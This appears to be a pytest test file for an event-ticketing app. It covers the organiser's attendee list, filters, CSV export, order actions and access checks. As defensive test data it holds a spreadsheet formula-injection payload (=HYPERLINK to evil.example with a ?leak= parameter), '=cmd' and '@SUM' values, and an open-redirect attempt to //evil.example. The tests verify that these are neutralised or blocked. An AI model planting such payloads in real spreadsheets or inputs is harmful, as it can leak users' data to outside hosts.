"""The organiser's attendee list: search, filters, counts per type, CSV export (spreadsheet-safe), and the
order actions (mark paid, cancel order, cancel a ticket, resend), all for organisers only."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re

import pytest
from sqlalchemy import func, select, update

from kernel.accounts import Role
from kernel.mail import OutboxMessage, bodies
from tests.conftest import csrf_for
from tests.core.helpers import new_client, page_text, sign_in
from tests.factories import make_event
from tests.ticketing.factories import make_order, make_ticket_type
from ticketing import services
from ticketing.domain import DOMAIN as TICKETING
from ticketing.models import Order, Ticket, TicketType

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
async def festival(db):
    """An event with two types and four orders in different states."""
    async with db.write() as session:
        event = await make_event(session, title="Handsworth Mela", capacity=100)
        other = await make_event(session, title="Another event")
        adult = await make_ticket_type(session, event, name="Adult", tier="standard", price_pence=500, capacity=10)
        child = await make_ticket_type(session, event, name="Child", tier="free", capacity=None)
        other_type = await make_ticket_type(session, other, name="Elsewhere")
        amina = await make_order(session, event, [(adult.id, "Amina Khatun"), (adult.id, "Yusuf Khatun")],
                                 email="amina@example.org", access_needs="Wheelchair space")
        rahim = await make_order(session, event, [(child.id, "Rahim Uddin")], email="rahim@example.org")
        evil = await make_order(session, event, [(adult.id, EVIL_NAME)], email="=cmd@example.org",
                                access_needs="@SUM(1+1)")
        paid = await make_order(session, event, [(adult.id, "Priya Patel")], email="priya@example.org",
                                organisation="Birmingham Tech Week")
        await services.mark_paid(session=session, order=paid, note="Bank transfer")
        # Priya is inside: checked in at the door at 18:05 London time (GMT in December)
        await session.execute(update(Ticket).where(Ticket.id == paid.tickets[0].id)
                              .values(checked_in_at=dt.datetime(2026, 12, 1, 18, 5, tzinfo=dt.UTC)))
        await services.cancel_tickets(session=session, tickets=[amina.tickets[1]])
        outsider = await make_order(session, other, [(other_type.id, "Not Here")], email="nothere@example.org")
    return {"event": event, "adult": adult, "child": child, "amina": amina, "rahim": rahim, "evil": evil,
            "paid": paid, "outsider": outsider}


def _names(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    return [html.unescape(n) for n in re.findall(r'<th scope="row"[^>]*>(.*?)<br>', response.text)]


async def test_attendee_list_counts_per_type_and_search(client, db, festival):
    await sign_in(client, db)
    event, amina = festival["event"], festival["amina"]
    base = f"/organiser/events/{event.id}/attendees"
    page = await client.get(base)
    assert sorted(_names(page)) == sorted(["Amina Khatun", "Yusuf Khatun", "Rahim Uddin", EVIL_NAME, "Priya Patel"])
    assert "Not Here" not in page.text
    text = page_text(page)
    # sold / capacity per type (the cancelled ticket's seat was given back)
    assert "Adult: 3 / 10" in re.sub(r"<[^>]+>", "", text)
    assert "Child: 1 / ∞" in re.sub(r"<[^>]+>", "", text)
    assert "Whole event: 4 / 100" in re.sub(r"<[^>]+>", "", text)
    assert "Wheelchair space" in text

    searches = {
        "khatun": ["Amina Khatun", "Yusuf Khatun"],
        "AMINA@EXAMPLE": ["Amina Khatun", "Yusuf Khatun"],  # the order's email, any case
        "rahim@example.org": ["Rahim Uddin"],
        festival["rahim"].reference.lower(): ["Rahim Uddin"],
        amina.tickets[0].code: ["Amina Khatun"],
        "  priya  ": ["Priya Patel"],
        "nobody-like-this": [],
    }
    for q, expected in searches.items():
        assert sorted(_names(await client.get(base, params={"q": q}))) == sorted(expected), q
    # the search box keeps what was typed
    assert 'value="khatun"' in (await client.get(base, params={"q": "khatun"})).text


async def test_attendee_filters_by_type_status_and_payment(client, db, festival):
    await sign_in(client, db)
    base = f"/organiser/events/{festival['event'].id}/attendees"
    cases = [
        ({"type": str(festival["child"].id)}, ["Rahim Uddin"]),
        ({"type": str(festival["adult"].id)}, ["Amina Khatun", "Yusuf Khatun", EVIL_NAME, "Priya Patel"]),
        ({"status": "cancelled"}, ["Yusuf Khatun"]),
        ({"status": "valid"}, ["Amina Khatun", "Rahim Uddin", EVIL_NAME, "Priya Patel"]),
        ({"paid": "paid"}, ["Priya Patel"]),
        ({"paid": "unpaid"}, ["Amina Khatun", "Yusuf Khatun", EVIL_NAME]),
        ({"paid": "unpaid", "status": "valid", "q": "khatun"}, ["Amina Khatun"]),
        ({"type": str(festival["child"].id), "paid": "unpaid"}, []),
    ]
    for params, expected in cases:
        response = await client.get(base, params=params)
        assert sorted(_names(response)) == sorted(expected), params
        for key, value in params.items():
            if key in ("type", "status", "paid"):
                assert re.search(rf'<option value="{re.escape(value)}" selected>', response.text), params
    for bad in ({"type": "adult"}, {"status": "deleted"}, {"paid": "maybe"}):
        assert (await client.get(base, params=bad)).status_code == 400


async def test_csv_export_one_row_per_ticket_with_formulas_neutralised(client, db, festival):
    await sign_in(client, db)
    event = festival["event"]
    response = await client.get(f"/organiser/events/{event.id}/attendees.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert f'filename="{event.slug}-attendees.csv"' in response.headers["content-disposition"]
    assert response.headers["cache-control"] == "private, no-store"
    body = response.content.decode("utf-8-sig")  # a BOM so Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(body)))
    header, data = rows[0], rows[1:]
    assert header[:4] == ["ticket_code", "attendee", "ticket_type", "tier"]
    assert {"email", "order_reference", "ticket_status", "access_needs", "paid_at"} <= set(header)
    assert len(data) == 5
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in data}
    async with db.read() as session:
        tickets = list(await session.scalars(select(Ticket).where(Ticket.event_id == event.id)))
    assert {c.lstrip("'") for c in by_code} == {t.code for t in tickets}
    evil_row = next(r for r in by_code.values() if "HYPERLINK" in r["attendee"])
    assert evil_row["attendee"] == "'" + EVIL_NAME
    assert evil_row["email"] == "'=cmd@example.org"
    assert evil_row["access_needs"] == "'@SUM(1+1)"
    # no cell anywhere starts with a character a spreadsheet would run as a formula
    for row in data:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    amina = next(r for r in by_code.values() if r["attendee"] == "Amina Khatun")
    # people's words, never the stored values (valid, awaiting_payment)
    assert (amina["ticket_type"], amina["price_gbp"], amina["ticket_status"], amina["order_status"]) == (
        "Adult", "5.00", "Valid", "Awaiting payment")
    assert amina["organisation"] == "" and amina["checked_in_at"] == ""
    assert amina["order_reference"] == festival["amina"].reference and amina["access_needs"] == "Wheelchair space"
    priya = next(r for r in by_code.values() if r["attendee"] == "Priya Patel")
    assert priya["order_status"] == "Confirmed" and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", priya["paid_at"])
    assert priya["organisation"] == "Birmingham Tech Week"
    assert (priya["ticket_status"], priya["checked_in_at"]) == ("Checked in", "2026-12-01 18:05")
    yusuf = next(r for r in by_code.values() if r["attendee"] == "Yusuf Khatun")
    assert yusuf["ticket_status"] == "Cancelled"
    for row in data:
        assert not {"valid", "cancelled", "awaiting_payment", "confirmed"} & set(row), row
    # the export follows the list's filters
    filtered = await client.get(f"/organiser/events/{event.id}/attendees.csv", params={"status": "cancelled"})
    rows = list(csv.reader(io.StringIO(filtered.content.decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["Yusuf Khatun"]
    # and the list links to the export with the same filters
    page = await client.get(f"/organiser/events/{event.id}/attendees", params={"status": "cancelled"})
    assert f'href="/organiser/events/{event.id}/attendees.csv?status=cancelled"' in page.text


async def test_organiser_order_actions(client, db, festival):
    await sign_in(client, db)
    event = festival["event"]
    base = f"/organiser/events/{event.id}/attendees"
    csrf = await csrf_for(client, base)

    async def emails_to(address):
        async with db.read() as session:
            return await session.scalar(select(func.count(OutboxMessage.id)).where(OutboxMessage.to_addr == address))

    # resend: a new outbox row each time
    before = await emails_to("amina@example.org")
    response = await client.post(f"/organiser/orders/{festival['amina'].id}/resend", data={"csrf_token": csrf})
    assert response.status_code == 303 and response.headers["location"] == base
    assert "sent again to amina@example.org" in page_text(await client.get(base))
    assert await emails_to("amina@example.org") == before + 1
    async with db.read() as session:
        row = await session.scalar(select(OutboxMessage).order_by(OutboxMessage.id.desc()))
    assert row.subject == "Your tickets again: Handsworth Mela" and "Amina Khatun" in (await bodies(db, row, TICKETING.mail_bodies))[0]

    # mark paid, keeping the list's filters on the way back
    response = await client.post(f"/organiser/orders/{festival['evil'].id}/mark-paid?back=%3Fpaid%3Dunpaid",
                                 data={"csrf_token": csrf, "note": "Cash"})
    assert response.headers["location"] == f"{base}?paid=unpaid"
    assert sorted(_names(await client.get(response.headers["location"]))) == ["Amina Khatun", "Yusuf Khatun"]
    # a redirect elsewhere is not possible through `back`
    response = await client.post(f"/organiser/orders/{festival['amina'].id}/mark-paid?back=//evil.example",
                                 data={"csrf_token": csrf})
    assert response.headers["location"] == base
    async with db.read() as session:
        assert (await session.get(Order, festival["amina"].id)).status == "confirmed"

    # cancel one ticket, then the whole order
    rahim_ticket = festival["rahim"].tickets[0]
    response = await client.post(f"/organiser/tickets/{rahim_ticket.id}/cancel", data={"csrf_token": csrf})
    assert response.status_code == 303
    assert "Ticket for Rahim Uddin cancelled." in page_text(await client.get(base))
    response = await client.post(f"/organiser/orders/{festival['paid'].id}/cancel", data={"csrf_token": csrf})
    assert "1 ticket cancelled" in page_text(await client.get(response.headers["location"]))
    async with db.read() as session:
        assert (await session.get(Order, festival["rahim"].id)).status == "cancelled"
        assert (await session.get(Order, festival["paid"].id)).status == "cancelled"
        child = await session.get(TicketType, festival["child"].id)
        adult = await session.get(TicketType, festival["adult"].id)
    assert (child.sold, adult.sold) == (0, 2)
    # a cancelled order has nothing to resend and cannot be marked paid
    response = await client.post(f"/organiser/orders/{festival['rahim'].id}/resend", data={"csrf_token": csrf})
    assert "has no valid tickets to send" in page_text(await client.get(response.headers["location"]))
    response = await client.post(f"/organiser/orders/{festival['rahim'].id}/mark-paid", data={"csrf_token": csrf})
    assert "cannot be marked paid" in page_text(await client.get(response.headers["location"]))
    # Rahim is told his ticket was cancelled, once; nothing for what was refused
    assert await emails_to("rahim@example.org") == 1
    # unknown ids are 404, not 500
    for path in ("/organiser/orders/999999/resend", "/organiser/orders/999999/cancel",
                 "/organiser/orders/999999/mark-paid", "/organiser/tickets/999999/cancel"):
        assert (await client.post(path, data={"csrf_token": csrf})).status_code == 404
    assert (await client.get("/organiser/events/999999/attendees")).status_code == 404


@pytest.mark.parametrize("role", [None, Role.DOOR_STAFF, Role.JUDGE])
async def test_attendee_pages_and_actions_are_for_organisers_only(app, db, festival, role):
    event, amina = festival["event"], festival["amina"]
    async with new_client(app, address="198.51.100.40") as browser:
        if role is not None:
            await sign_in(browser, db, role)
        csrf = await csrf_for(browser, "/login")
        for path in (f"/organiser/events/{event.id}/attendees", f"/organiser/events/{event.id}/attendees.csv"):
            response = await browser.get(path)
            if role is None:
                assert response.status_code == 303 and response.headers["location"].startswith("/login")
            else:
                assert response.status_code == 403, (role, path)
            assert "Amina" not in response.text
        for path in (f"/organiser/orders/{amina.id}/mark-paid", f"/organiser/orders/{amina.id}/cancel",
                     f"/organiser/orders/{amina.id}/resend", f"/organiser/tickets/{amina.tickets[0].id}/cancel"):
            response = await browser.post(path, data={"csrf_token": csrf})
            assert response.status_code == 403, (role, path)
    async with db.read() as session:
        order = await session.get(Order, amina.id)
        statuses = list(await session.scalars(select(Ticket.status).where(Ticket.order_id == amina.id)
                                              .order_by(Ticket.id)))
        emails = await session.scalar(select(func.count(OutboxMessage.id)))
    assert (order.status, order.paid_at) == ("awaiting_payment", None)
    assert statuses == ["valid", "cancelled"]
    assert emails == 0


async def test_attendee_list_shows_the_organisation_and_who_is_checked_in(client, db, festival):
    await sign_in(client, db)
    page = await client.get(f"/organiser/events/{festival['event'].id}/attendees")
    assert page.status_code == 200
    header = re.search(r"<thead>(.*?)</thead>", page.text, re.DOTALL).group(1)
    assert '<th scope="col">Checked in</th>' in header
    rows = {html.unescape(re.search(r'<th scope="row"[^>]*>(.*?)<br>', row).group(1)): page_text_of(row)
            for row in re.findall(r"<tr[^>]*>\s*<th scope=\"row\".*?</tr>", page.text, re.DOTALL)}
    assert "Birmingham Tech Week" in rows["Priya Patel"]
    assert "Checked in" in rows["Priya Patel"] and "18:05" in rows["Priya Patel"]
    assert "Not yet" in rows["Amina Khatun"] and "Checked in" not in rows["Amina Khatun"]
    assert "Awaiting payment" in rows["Amina Khatun"]
    for internal in ("awaiting_payment", ">valid<", "To pay at the door"):
        assert internal not in page.text


def page_text_of(fragment: str) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", fragment)).split())
